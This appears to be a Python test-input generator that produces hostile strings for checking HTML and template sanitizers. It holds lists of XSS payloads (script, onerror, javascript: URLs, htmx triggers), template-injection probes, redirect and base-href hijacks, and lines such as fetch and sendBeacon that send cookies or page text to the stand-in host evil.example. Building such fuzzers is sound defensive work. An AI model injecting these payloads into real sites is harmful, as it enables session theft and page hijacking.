"""Words that want to be more than words: made from a grammar of ways out of text and of things to do outside."""

import random
from collections.abc import Iterator

_OUT = [
    "", '"', "'", ">", '">', "'>", "</textarea>", "</title>", "</mark>", "</a>", "</script>", "-->", "]]>", "\\", "`",
    '" autofocus ', "</svg>", "</style>", "</q>", "%22%3E", "&quot;&gt;", "\u2028", "\r\n\r\n", "}}", "%}",
]  # fmt: skip
_DO = [
    "window.ran=1", "alert(1)", "fetch('https://evil.example/'+document.cookie)", "document.body.remove()",
    "location='https://evil.example'", "navigator.sendBeacon('https://evil.example',document.body.innerText)",
]  # fmt: skip
_IN = [
    "<script>{do}</script>", "<script src=https://evil.example/x.js></script>", "<img src=x onerror={do}>",
    "<svg onload={do}>", "<svg><script>{do}</script></svg>", "<iframe srcdoc='<script>{do}</script>'></iframe>",
    "<iframe src=https://evil.example></iframe>", "<a href='javascript:{do}'>open</a>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>", "<base href=https://evil.example/>",
    "<form action=https://evil.example><button>Kept</button></form>", "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{{display:none!important}}</style>", "<details open ontoggle={do}>", "<input onfocus={do} autofocus>",
    "<math><mi xlink:href='javascript:{do}'>x</mi></math>", "<body onload={do}>", "<object data=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example/x.css>", "onmouseover={do} ", "javascript:{do}", "data:text/html,<script>{do}</script>",
    "<div hx-get='https://evil.example' hx-trigger=load>x</div>", "<div hx-on:htmx:load='{do}' data-hx-get=/settings data-hx-trigger=load>x</div>",
    "<plaintext>", "<!--", "<title>", "<xmp>", "<noscript>", "<template>", "<textarea>", "<select>", "<table><tr><td>", "</main></body></html>",
    "{{{{ 7*7 }}}}", "{{% include 'secret' %}}", "{{{{ ''.__class__.__mro__ }}}}", "${{7*7}}", "#{{7*7}}",
    "\u202egnp.exe\u202c", "\u0000\u0007\u001b[31m", "A\u0301" * 40, "W" * 3000, "\U0001f4a5" * 60, "\ufeff\u200b", "\ud800",
]  # fmt: skip


def hostile_words(count: int, seed: int = 9) -> Iterator[str]:
    """So many, each another."""
    chance = random.Random(seed)
    for number in range(count):
        one = _IN[number % len(_IN)].format(do=chance.choice(_DO))
        if chance.random() < 0.15:
            one = "".join(char.upper() if chance.random() < 0.5 else char for char in one)
        yield f"{chance.choice(_OUT)}{one} {number}"
